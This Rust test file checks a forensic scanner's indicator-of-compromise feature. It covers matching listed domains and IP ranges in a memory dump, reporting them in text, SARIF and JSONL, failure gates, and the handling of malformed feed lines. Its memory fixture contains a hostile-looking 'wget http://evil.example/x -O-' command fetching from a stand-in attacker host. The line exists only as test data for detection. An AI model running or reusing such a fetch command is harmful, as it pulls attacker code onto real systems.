//! Lists of indicators: what is reported, and what is said of lists that are wrong.

use std::fs;

use serde_json::Value;

use super::{cryoscan, folder, stderr, stdout};

const MEMORY: &[u8] = b"\0wget http://evil.example/x -O-\0\0peer 203.0.113.7:443\0";

#[test]
fn findings_name_the_list_and_the_line_in_every_format() {
    let folder = folder("ioc");
    let target = folder.join("memory");
    let list = folder.join("feed.txt");
    fs::write(&target, MEMORY).unwrap();
    fs::write(&list, "# mine\nevil[.]example\n203.0.113.0/28\nnever.example\n").unwrap();
    let (target, list) = (target.to_str().unwrap(), list.to_str().unwrap());
    let scan = |format: &str, more: &[&str]| {
        let args = ["scan", "--raw", target, "--ioc", list, "--no-progress", "-f", format];
        cryoscan(&[&args, more].concat())
    };
    let output = scan("text", &[]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let page = stdout(&output).split_whitespace().collect::<Vec<_>>().join(" ");
    for said in
        ["Listed domain", "domain evil.example; line 2 of", "ipv4 203.0.113.0/28; line 3 of"]
    {
        assert!(page.contains(said), "{said}: {page}");
    }
    let output = scan("sarif", &[]);
    let sarif: Value = serde_json::from_str(&stdout(&output)).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let properties = |id: &str| {
        let result = results.iter().find(|result| result["ruleId"] == id).unwrap();
        let of = &result["properties"];
        (of["indicator"]["value"].clone(), of["attributes"]["list.line"].clone())
    };
    assert_eq!(properties("ioc:domain"), ("evil.example".into(), "2".into()));
    assert_eq!(properties("ioc:ipv4"), ("203.0.113.0/28".into(), "3".into()));

    // The gate takes them like any other: a domain is sure to be meant, a range is not.
    assert_eq!(scan("text", &["--fail-on", "high:high"]).status.code(), Some(1));
    let only = folder.join("range.txt");
    fs::write(&only, "203.0.113.0/28\n").unwrap();
    let args = ["--raw", target, "--ioc", only.to_str().unwrap(), "--fail-on", "high"];
    assert_eq!(cryoscan(&args).status.code(), Some(0));
    let args = ["--raw", target, "--ioc", only.to_str().unwrap(), "--fail-on", "high:low"];
    assert_eq!(cryoscan(&args).status.code(), Some(1));

    // And `explain` knows where it comes from.
    let report = folder.join("report.jsonl");
    fs::write(&report, scan("jsonl", &[]).stdout).unwrap();
    let explained = cryoscan(&["explain", "c1-0001", report.to_str().unwrap()]);
    let page = stdout(&explained).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(page.contains("Found by line 2 of") && page.contains("domain: evil.example"), "{page}");
}

#[test]
fn a_wrong_line_ends_the_run_unless_asked_otherwise() {
    let folder = folder("ioc-wrong");
    let target = folder.join("memory");
    let list = folder.join("feed.txt");
    fs::write(&target, MEMORY).unwrap();
    fs::write(&list, "evil.example\nevil\n10.0.0.0/1\n").unwrap();
    let args = ["--raw", target.to_str().unwrap(), "--ioc", list.to_str().unwrap()];
    let output = cryoscan(&args);
    assert_eq!(output.status.code(), Some(2));
    let said = stderr(&output);
    for part in [
        "feed.txt:2: expected a domain of two labels or more, an address, a URL or a hash: \"evil\"",
        "feed.txt:3: expected a range of /8 or narrower: \"10.0.0.0/1\"",
        "2 lines of the lists cannot be read as indicators; --rules-lenient leaves such lines out",
    ] {
        assert!(said.contains(part), "{part}: {said}");
    }
    let output = cryoscan(&[&args[..], &["--rules-lenient", "-f", "jsonl"]].concat());
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let report = stdout(&output);
    assert_eq!(report.matches("\"indicator-left-out\"").count(), 2, "{report}");
    assert!(report.contains(r#""indicator":{"type":"domain","value":"evil.example"}"#), "{report}");

    fs::write(&list, "\n# nothing yet\n").unwrap();
    let output = cryoscan(&args);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("feed.txt: no indicator in this list"), "{}", stderr(&output));
    fs::write(&list, "evil\n").unwrap();
    let output = cryoscan(&[&args[..], &["--rules-lenient"]].concat());
    assert_eq!(output.status.code(), Some(2), "{}", stdout(&output));
}
